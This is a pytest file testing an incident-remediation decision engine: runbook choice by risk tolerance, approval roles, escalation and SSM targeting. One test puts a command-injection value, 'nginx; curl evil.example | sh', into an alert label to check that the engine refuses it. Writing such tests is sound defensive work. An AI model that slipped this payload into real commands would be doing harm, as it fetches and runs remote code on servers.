"""Rules decisions: which runbooks are allowed, and approval by risk tolerance, on the real database."""

from __future__ import annotations

import pytest

from core.decisions.engine import decide
from tests.support.decision_world import DecisionWorld
from tests.support.fake_llm import FakeLlm, good
from workflows.remediation.types import DecisionAction


async def test_low_risk_auto_approved_runbook_within_tolerance_runs_at_once(world: DecisionWorld) -> None:
    company = await world.company({"risk_tolerance": "low"})
    runbook = await world.runbook(company, name="Clean up disk", risk="low")
    incident = await world.incident(company)

    outcome = await decide(world.sessions, world.settings, incident, dry_run=True)

    assert outcome.decision.action == DecisionAction.EXECUTE_RUNBOOK
    assert outcome.decision.runbook_id == runbook
    assert outcome.decision.provider == "rules"
    assert outcome.approval_role is None
    assert outcome.plan is not None and outcome.plan.actions == ["journalctl --vacuum-size=200M"]
    assert "Clean up disk" in outcome.decision.reasoning and "runs at once" in outcome.decision.reasoning
    assert 0 < outcome.decision.confidence <= 1


@pytest.mark.parametrize(
    ("risk", "tolerance", "role"),
    [("medium", "low", "technician"), ("high", "medium", "company_admin"), ("low", "none", "technician")],
)
async def test_runbook_riskier_than_the_company_tolerates_waits_for_approval(
    world: DecisionWorld, risk: str, tolerance: str, role: str
) -> None:
    company = await world.company({"risk_tolerance": tolerance, "approval_timeout_minutes": 45})
    runbook = await world.runbook(company, risk=risk)
    incident = await world.incident(company)

    outcome = await decide(world.sessions, world.settings, incident, dry_run=True)

    assert outcome.decision.action == DecisionAction.APPROVE_REQUIRED
    assert outcome.decision.runbook_id == runbook
    assert outcome.approval_role == role
    assert outcome.approval_timeout_minutes == 45
    assert f"a {role} must approve" in outcome.decision.reasoning


async def test_runbook_not_marked_for_auto_approval_waits_even_when_tolerated(world: DecisionWorld) -> None:
    company = await world.company({"risk_tolerance": "high"})
    await world.runbook(company, risk="low", auto_approve=False)
    outcome = await decide(world.sessions, world.settings, await world.incident(company), dry_run=True)
    assert outcome.decision.action == DecisionAction.APPROVE_REQUIRED
    assert outcome.approval_role == "technician"


async def test_no_matching_runbook_escalates_to_a_technician(world: DecisionWorld) -> None:
    company = await world.company()
    await world.runbook(company, signatures=("cpu_*",))
    outcome = await decide(world.sessions, world.settings, await world.incident(company), dry_run=True)
    assert outcome.decision.action == DecisionAction.ESCALATE_TO_TECH
    assert outcome.decision.runbook_id is None and outcome.plan is None
    assert "No runbook" in outcome.decision.reasoning


async def test_company_runbook_comes_before_global_and_other_companies_runbooks_never_apply(
    world: DecisionWorld,
) -> None:
    # A signature of its own: the global runbook would match other tests' incidents (one database).
    signature = "ordering_test_disk_full"
    company, other = await world.company(), await world.company()
    await world.runbook(other, name="Other's fix", signatures=("ordering_test_*",))
    await world.runbook(None, name="A global fix", signatures=("ordering_test_*",))
    own = await world.runbook(company, name="Zz own fix", signatures=("ordering_test_*",))
    incident = await world.incident(company, signature=signature)
    outcome = await decide(world.sessions, world.settings, incident, dry_run=True)
    assert outcome.decision.runbook_id == own

    lonely = await world.company()
    incident = await world.incident(lonely, signature=signature)
    outcome = await decide(world.sessions, world.settings, incident, dry_run=True)
    assert outcome.plan is not None and outcome.plan.runbook_name == "A global fix"


async def test_runbook_whose_parameter_the_alert_cannot_fill_safely_is_not_allowed(
    world: DecisionWorld,
) -> None:
    company = await world.company()
    await world.runbook(
        company,
        actions=("systemctl restart {service}",),
        parameters=[{"name": "service", "source": "label:service", "pattern": "^[a-z0-9_-]+$"}],
    )
    hostile = await world.incident(company, labels={"service": "nginx; curl evil.example | sh"})
    outcome = await decide(world.sessions, world.settings, hostile, dry_run=True)
    assert outcome.decision.action == DecisionAction.ESCALATE_TO_TECH
    assert outcome.plan is None

    fine = await world.incident(company, labels={"service": "nginx"})
    outcome = await decide(world.sessions, world.settings, fine, dry_run=True)
    assert outcome.plan is not None and outcome.plan.actions == ["systemctl restart nginx"]


async def test_ssm_runbook_targets_the_instances_the_company_maps_to_the_asset(world: DecisionWorld) -> None:
    company = await world.company(
        assets=[
            {"name": "web-01", "instance_ids": ["i-0aaa", "i-0bbb"]},
            {"name": "web-02", "asset_id": "i-0ccc"},
        ]
    )
    await world.runbook(company, executor="ssm")
    for asset, targets in (("web-01", ["i-0aaa", "i-0bbb"]), ("web-02", ["i-0ccc"])):
        incident = await world.incident(company, asset_name=asset)
        outcome = await decide(world.sessions, world.settings, incident, dry_run=True)
        assert outcome.plan is not None and outcome.plan.targets == targets
    # Nothing to run an SSM command on: the runbook is not allowed here.
    incident = await world.incident(company, asset_name="db-9")
    outcome = await decide(world.sessions, world.settings, incident, dry_run=True)
    assert outcome.decision.action == DecisionAction.ESCALATE_TO_TECH


async def test_low_severity_with_a_known_runbook_never_calls_the_llm(
    world: DecisionWorld, fake: FakeLlm
) -> None:
    company = await world.company()
    runbook = await world.runbook(company)
    fake.reply("anthropic", good("ESCALATE_TO_TECH", None))
    settings = world.with_providers("anthropic", "rules")

    outcome = await decide(
        world.sessions, settings, await world.incident(company, severity="low"), dry_run=True
    )

    assert fake.requests == []
    assert outcome.decision.provider == "rules" and outcome.decision.runbook_id == runbook
    assert outcome.decision.tokens_used == 0
